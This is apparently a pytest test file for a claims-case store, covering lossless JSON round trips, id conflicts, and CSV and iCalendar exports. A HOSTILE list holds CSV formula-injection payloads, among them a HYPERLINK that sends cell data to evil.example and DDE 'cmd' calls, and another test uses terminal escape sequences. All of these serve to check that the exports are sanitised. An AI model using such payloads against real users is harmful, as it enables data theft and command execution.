"""Export → import round-trips losslessly; conflicting ids are skipped or renumbered, never
overwritten; CSV and iCalendar exports carry what a spreadsheet or calendar needs."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from icalendar import Calendar

from casewriter.errors import UsageError
from casewriter.paths import AppPaths
from casewriter.store import CaseStore
from casewriter.store.export import export_document
from casewriter.store.formats import to_csv, to_ics
from casewriter.store.importer import rows_from_document
from tests.test_store import make_case
from tests.test_store_search import cjk_index_is_exact

T0 = datetime(2026, 4, 10, 8, 0, tzinfo=UTC)


def _populate(store: CaseStore) -> None:
    a = store.save_new(make_case(expected_amount=Decimal("24.99"), currency="USD"), now=T0)
    b = store.save_new(
        make_case(
            subject="仓库丢失 X004ABCDEF",
            body="库存丢失，申请赔偿。",
            identifiers=[("fnsku", "X004ABCDEF"), ("reference_id", "R1234567")],
            deadline_closes=date(2026, 5, 1),
        ),
        now=T0 + timedelta(minutes=1),
    )
    store.file(a.id, "7261849305", now=T0 + timedelta(hours=1))
    store.add_event(
        a.id, "amazon-replied", "Send the invoice 请提供发票", now=T0 + timedelta(days=1)
    )
    store.set_status(a.id, "resolved", note="paid", now=T0 + timedelta(days=3))
    store.set_amounts(a.id, received=Decimal("24.990"))
    store.link(a.id, b.id, now=T0 + timedelta(days=4))
    store.update_case(
        b.id,
        make_case(
            subject="仓库丢失 X004ABCDEF v2",
            identifiers=[("fnsku", "X004ABCDEF"), ("reference_id", "R1234567")],
            deadline_closes=date(2026, 5, 1),
        ),
        now=T0 + timedelta(days=5),
    )


def _strip(doc: dict) -> list[dict]:  # type: ignore[type-arg]
    return doc["cases"]  # type: ignore[no-any-return]


def test_round_trip_is_lossless(tmp_path: Path) -> None:
    src = CaseStore.open(AppPaths.under(tmp_path / "a"), clock=lambda: T0)
    _populate(src)
    doc = export_document(src)
    dst = CaseStore.open(AppPaths.under(tmp_path / "b"), clock=lambda: T0)
    report = dst.import_rows(rows_from_document(doc, "x.json"))
    assert report == {
        "imported": 2,
        "skipped": [],
        "renumbered": {},
        "links_dropped": 0,
        "invalid_values_left_out": [],
    }
    assert _strip(export_document(dst)) == _strip(doc)
    assert [h.case.id for h in dst.search("请提供发票")] == ["CW-000001"]
    assert [h.case.id for h in dst.search("丢失")] == ["CW-000002"]
    with dst._read() as conn:
        assert cjk_index_is_exact(conn)
    assert dst.get("CW-000002").received_amount is None
    assert dst.get("CW-000001").received_amount == Decimal("24.990")
    with dst._read() as conn:
        conn.execute("INSERT INTO cases_fts(cases_fts, rank) VALUES ('integrity-check', 1)")
    # Importing again never overwrites: skipped, or renumbered with links following.
    again = dst.import_rows(doc["cases"])
    assert again["imported"] == 0 and again["skipped"] == ["CW-000001", "CW-000002"]
    renum = dst.import_rows(doc["cases"], renumber=True)
    assert renum["renumbered"] == {"CW-000001": "CW-000003", "CW-000002": "CW-000004"}
    assert dst.get("CW-000003").links == ["CW-000004"]
    assert dst.get("CW-000001").links == ["CW-000002"]
    assert dst.count() == 4
    src.close()
    dst.close()


def test_bulk_import_path_rebuilds_search(tmp_path: Path) -> None:
    src = CaseStore.open(AppPaths.under(tmp_path / "a"), clock=lambda: T0)
    for i in range(250):  # above BULK_THRESHOLD: plain inserts + one FTS rebuild
        src.save_new(
            make_case(
                subject=f"case {i}",
                body=f"正文 {i} 退款" if i == 7 else f"body {i}",
                identifiers=[("order_id", f"114-{i:07d}-0000001")],
            )
        )
    src.add_event("CW-000009", "note", "独特的备注")
    doc = export_document(src)
    dst = CaseStore.open(AppPaths.under(tmp_path / "b"))
    assert dst.import_rows(doc["cases"])["imported"] == 250
    assert [h.case.id for h in dst.search("退款")] == ["CW-000008"]
    assert [h.case.id for h in dst.search("独特的备注")] == ["CW-000009"]
    assert [h.case.id for h in dst.search("114-0000042-0000001")] == ["CW-000043"]
    assert [h.case.id for h in dst.search("备注")] == ["CW-000009"]  # 2-char CJK token
    dst.set_status("CW-000009", "closed", note="更新后")  # per-row FTS sync after a rebuild
    assert [h.case.id for h in dst.search("更新")] == ["CW-000009"]
    with dst._read() as conn:
        conn.execute("INSERT INTO cases_fts(cases_fts, rank) VALUES ('integrity-check', 1)")
        assert cjk_index_is_exact(conn)
    assert _strip(export_document(dst))[0] == doc["cases"][0]
    src.close()
    dst.close()


@pytest.mark.parametrize(
    "bad",
    [
        {"format": "something-else"},
        {
            "format": "casewriter-log",
            "cases": [
                {
                    "id": "CW-1",
                    "status": "nope",
                    "case_type": "x",
                    "created_at": "2026-01-01T00:00:00Z",
                    "updated_at": "2026-01-01T00:00:00Z",
                }
            ],
        },
        {"format": "casewriter-log", "cases": [{"id": "zzz", "status": "draft"}]},
        {
            "format": "casewriter-log",
            "cases": [
                {
                    "id": "CW-1",
                    "status": "draft",
                    "case_type": "x",
                    "created_at": "yesterday",
                    "updated_at": "2026-01-01T00:00:00Z",
                }
            ],
        },
        {
            "format": "casewriter-log",
            "cases": [
                {
                    "id": "CW-1",
                    "status": "draft",
                    "case_type": "x",
                    "created_at": "2026-01-01T00:00:00Z",
                    "updated_at": "2026-01-01T00:00:00Z",
                    "expected": {"amount": "lots"},
                }
            ],
        },
    ],
)
def test_bad_import_is_rejected_whole(paths: AppPaths, bad: dict) -> None:  # type: ignore[type-arg]
    with CaseStore.open(paths) as store:
        with pytest.raises(UsageError):
            store.import_rows(rows_from_document(bad, "bad.json"))
        assert store.count() == 0


def test_csv_and_ics(tmp_path: Path) -> None:
    store = CaseStore.open(AppPaths.under(tmp_path / "a"), clock=lambda: T0)
    _populate(store)
    c = store.save_new(make_case(identifiers=[]))
    store.file(c.id, "7261849305", now=T0)
    rows = list(store.export_rows())
    text = to_csv(rows)
    assert text.startswith('\ufeff"id","status",')  # every cell quoted (see formats.py)
    assert "仓库丢失 X004ABCDEF v2" in text and "fnsku:X004ABCDEF; reference_id:R1234567" in text
    cal = Calendar.from_ical(to_ics(rows, T0))
    comps = {str(x["uid"]): x for x in cal.walk() if x.name in ("VTODO", "VEVENT")}
    assert set(comps) == {"CW-000002-deadline@casewriter", "CW-000003-follow-up@casewriter"}
    assert comps["CW-000003-follow-up@casewriter"].decoded("due") == T0 + timedelta(hours=48)
    assert comps["CW-000002-deadline@casewriter"].decoded("dtstart") == date(2026, 5, 1)
    # UIDs are stable: exporting again gives the same ones.
    again = Calendar.from_ical(to_ics(list(store.export_rows()), T0 + timedelta(days=1)))
    assert {str(x["uid"]) for x in again.walk() if x.name in ("VTODO", "VEVENT")} == set(comps)
    store.close()


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "x;=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_never_start_a_formula(text: str) -> None:
    from casewriter.store.formats import csv_cell

    cell = csv_cell(text)
    if text.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")):
        assert cell == "'" + text
    else:
        assert cell == text  # starts with a letter: already text


@pytest.mark.parametrize(
    "number", ["-24.99", "+5", "-0", "24.99", "2026-05-01", "2026-05-01T09:00:00Z"]
)
def test_plain_numbers_and_dates_stay_data(number: str) -> None:
    from casewriter.store.formats import csv_cell

    assert csv_cell(number) == number


def test_csv_export_of_hostile_stored_text(tmp_path: Path) -> None:
    import csv
    import io
    import sqlite3

    store = CaseStore.open(AppPaths.under(tmp_path / "a"), clock=lambda: T0)
    for text in HOSTILE:
        store.save_new(make_case(subject=text, identifiers=[]))
    store.save_new(make_case(profile="=1+1", subject="profile attack", identifiers=[]))
    conn = sqlite3.connect(store.path)  # a currency no writer accepts, put in by hand
    conn.execute("UPDATE cases SET currency = '=1+1' WHERE id = 1")
    conn.commit()
    conn.close()
    text = to_csv(list(store.export_rows()))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert text.startswith('\ufeff"id",')  # every cell quoted: a ; cannot start a cell
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")), row
    subjects = [r[6] for r in rows[1:]]
    assert subjects[: len(HOSTILE)] == [("'" + t if t[0] in "=+-@\t\r\x00" else t) for t in HOSTILE]
    assert rows[1][12] == "'=1+1"  # the hand-made currency, neutralised too
    # The JSON export stays lossless: the same text, byte for byte.
    exported = [r["subject"] for r in store.export_rows()]
    assert exported[: len(HOSTILE)] == HOSTILE
    store.close()


def test_ics_drops_control_characters(tmp_path: Path) -> None:
    store = CaseStore.open(AppPaths.under(tmp_path / "a"), clock=lambda: T0)
    hostile = "Refund\x00 pending \x1b]52;c;ZXZpbA==\x07 \x1b[2J done\x7f\x9b tab\there"
    case = store.save_new(
        make_case(subject=hostile, identifiers=[], deadline_closes=date(2026, 5, 1))
    )
    store.file(store.save_new(make_case(subject=hostile, identifiers=[])).id, "7261849305", now=T0)
    data = to_ics(list(store.export_rows()), T0)
    for byte in (b"\x00", b"\x1b", b"\x07", b"\x7f", "\x9b".encode()):
        assert byte not in data
    cal = Calendar.from_ical(data)
    summaries = [str(x["summary"]) for x in cal.walk() if x.name in ("VTODO", "VEVENT")]
    assert (
        f"Claim window closes: {case.id} Refund pending ]52;c;ZXZpbA== [2J done tab\there"
        in summaries
    )
    store.close()


def test_ics_skips_values_that_cannot_be_read(tmp_path: Path) -> None:
    import sqlite3

    store = CaseStore.open(AppPaths.under(tmp_path / "a"), clock=lambda: T0)
    a = store.save_new(make_case(identifiers=[], deadline_closes=date(2026, 5, 1)))
    b = store.save_new(make_case(identifiers=[]))
    store.file(b.id, "7261849305", now=T0)
    conn = sqlite3.connect(store.path)
    conn.execute("UPDATE cases SET deadline_closes = '9999-12-31' WHERE id = 1")
    conn.execute("UPDATE cases SET follow_up_at = '9999-12-31T23:59:59Z' WHERE id = 2")
    conn.commit()
    conn.close()
    cal = Calendar.from_ical(to_ics(list(store.export_rows()), T0))
    assert [x for x in cal.walk() if x.name in ("VTODO", "VEVENT")] == []
    assert a.id and b.id
    store.close()


@pytest.mark.parametrize("renumber", [False, True], ids=["plain", "renumber"])
def test_one_id_twice_in_an_import_file_is_refused_naming_both_rows(
    tmp_path: Path, renumber: bool
) -> None:
    """Issue 10 F12: the second case was dropped as "already in the log" (or, renumbered, the
    summary lost one). The same number written two ways (``CW-000777``, ``777``) is the same id."""
    src = CaseStore.open(AppPaths.under(tmp_path / "a"), clock=lambda: T0)
    _populate(src)
    doc = export_document(src)
    src.close()
    dst = CaseStore.open(AppPaths.under(tmp_path / "b"), clock=lambda: T0)
    dst.save_new(make_case(subject="already here"))
    before = _strip(export_document(dst))
    one, two = doc["cases"]
    rows = [dict(one, id="CW-000777"), dict(two), dict(two, id="777", subject="twin")]
    with pytest.raises(UsageError) as caught:
        dst.import_rows(rows, renumber=renumber)
    assert caught.value.message.startswith("cases #1 and #3 both have the id CW-000777")
    assert _strip(export_document(dst)) == before  # nothing imported
    dst.close()
